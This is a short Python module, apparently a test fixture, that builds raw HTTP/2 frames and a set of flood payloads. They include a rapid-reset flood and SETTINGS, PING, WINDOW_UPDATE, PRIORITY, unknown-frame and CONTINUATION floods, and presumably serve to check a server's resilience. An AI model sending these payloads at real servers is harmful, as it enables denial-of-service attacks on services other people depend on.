"""Frames of HTTP/2 (RFC 9113), and floods of them that no client of good will sends."""

from __future__ import annotations

import struct

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
BLOCK = Encoder().encode(
    [
        (":method", "POST"),
        (":path", "/api/v1/function"),
        (":scheme", "http"),
        (":authority", "island"),
    ],
    huffman=False,
)


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def reset(number: int) -> bytes:
    """A request, and that it is taken back."""
    stream = 2 * number + 1
    return frame(HEADERS, BLOCK, flags=4, stream=stream) + frame(RST, struct.pack(">I", 8), stream=stream)


GREETING = PREFACE + frame(SETTINGS)
FLOODS = {
    "resets": b"".join(map(reset, range(3000))),
    "settings": frame(SETTINGS) * 20_000,
    "pings": frame(PING, b"x" * 8) * 20_000,
    "windows": b"".join(frame(WINDOW, struct.pack(">I", 1)) for _ in range(20_000)),
    "priorities": b"".join(
        frame(PRIORITY, struct.pack(">IB", 0, 16), stream=2 * number + 1) for number in range(20_000)
    ),
    "unknown": frame(0x20, b"x") * 20_000,
    "continuations": frame(HEADERS, BLOCK, stream=1) + frame(CONTINUATION, b"", stream=1) * 20_000,
}
"""Each follows `GREETING`."""
